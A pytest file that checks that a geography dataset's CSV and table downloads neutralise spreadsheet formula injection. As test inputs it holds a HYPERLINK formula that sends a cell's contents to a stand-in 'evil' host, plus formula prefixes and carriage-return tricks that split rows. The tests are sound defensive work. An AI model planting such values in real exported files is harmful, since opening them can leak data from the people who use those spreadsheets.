"""Downloads never carry a cell that a spreadsheet would run as a formula."""
import pandas as pd
import pytest

from geo.dataset import spreadsheet_safe, spreadsheet_safe_csv
from tests.conftest import DATA


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
                                  "\tcmd", "\rcmd"])
def test_formula_text_is_neutralised(text):
    table = spreadsheet_safe(pd.DataFrame({"title": [text], "deaths": pd.array([-3], dtype="Int64")}))
    assert table.loc[0, "title"] == "'" + text.replace("\r", "\n")  # a CR becomes a quoted line feed
    assert table.loc[0, "deaths"] == -3  # numbers stay numbers


def test_a_csv_with_a_formula_cell_is_rewritten_and_a_clean_one_kept_byte_for_byte():
    hostile = b'id,title\nev-1998-x,"=HYPERLINK(""http://evil"",""x"")"\n'
    assert spreadsheet_safe_csv(hostile) == b'id,title\nev-1998-x,"\'=HYPERLINK(""http://evil"",""x"")"\n'
    clean = (DATA / "events.csv").read_bytes()
    assert spreadsheet_safe_csv(clean) == clean


def test_a_carriage_return_cannot_start_a_row_that_runs_a_formula():
    import csv
    import io

    from geo.dataset import spreadsheet_safe_csv
    hostile = "id,title\nev-1,\"Mazar\r=HYPERLINK(\"\"http://x\"\")\"\nev-2,\"\r@SUM(1)\"\n".encode()
    rows = list(csv.reader(io.StringIO(spreadsheet_safe_csv(hostile).decode(), newline="")))
    assert len(rows) == 3 and [row[0] for row in rows] == ["id", "ev-1", "ev-2"]  # no row was split
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)
    # a table written by pandas (the downloads) quotes the cell, which stays one cell
    table = spreadsheet_safe(pd.DataFrame({"title": ["a\r=1+1", "b\r\n+2"]}))
    rows = list(csv.reader(io.StringIO(table.to_csv(index=False, lineterminator="\n"), newline="")))
    assert [row[0] for row in rows] == ["title", "a\n=1+1", "b\n+2"]
